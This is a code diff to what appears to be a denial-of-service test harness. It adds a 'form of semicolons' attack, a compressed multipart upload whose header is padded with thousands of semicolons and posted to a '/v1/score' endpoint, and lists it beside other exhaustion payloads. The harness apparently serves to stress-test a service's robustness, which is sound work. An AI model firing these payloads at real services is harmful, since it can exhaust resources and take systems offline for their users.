@@ -166,6 +166,13 @@ def line_ends(site: Site) -> str:
     return site.post("/v1/score", "multipart/form-data; boundary=b", body, "content-encoding: gzip")
 
 
+def form_of_semicolons(site: Site) -> str:
+    """A form of many files, whose heads are parameters without a name, compressed."""
+    part = b'--b\r\ncontent-disposition: form-data; name="files"; filename=a'
+    body = _packed(b"", part + b";" * 8000 + b"\r\n\r\nx\r\n", 1000, b"--b--")
+    return site.post("/v1/score", "multipart/form-data; boundary=b", body, "content-encoding: gzip")
+
+
 def long_numbers(site: Site) -> str:
     """Images that are numbers of thousands of digits, compressed."""
     body = _packed(b'{"images": [', b"9" * 4300 + b",", 7000, b"1]}")
@@ -246,6 +253,7 @@ ATTACKS: dict[str, tuple[Callable[[Site], str], int]] = {
     "deep JSON": (deep_json, 2),
     "punycode form": (punycode_form, 2),
     "form of line ends": (line_ends, 2),
+    "form of semicolons": (form_of_semicolons, 2),
     "numbers of many digits": (long_numbers, 2),
     "chunks of a byte": (small_chunks, 2),
     "half-open connections": (half_open, 2),
